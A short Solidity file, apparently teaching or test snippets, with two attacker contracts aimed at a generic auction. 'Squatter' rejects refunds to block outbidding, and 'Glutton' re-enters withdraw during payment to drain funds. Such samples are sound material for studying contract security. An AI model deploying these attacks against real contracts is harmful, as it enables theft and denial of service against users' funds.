// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IAuction {
    function bid() external payable;
    function withdraw(address payable to) external;
}

// #region attack
contract Squatter {
    error NoRefundsPlease();

    function squat(IAuction auction) external payable {
        auction.bid{value: msg.value}();
    }

    receive() external payable {
        revert NoRefundsPlease();
    }
}
// #endregion attack

// #region second
/// Withdraws its refund and asks for it again while it is being paid.
contract Glutton {
    function bid(IAuction auction) external payable {
        auction.bid{value: msg.value}();
    }

    function fetch(IAuction auction) external {
        auction.withdraw(payable(address(this)));
    }

    receive() external payable {
        IAuction(msg.sender).withdraw(payable(address(this)));
    }
}
// #endregion second
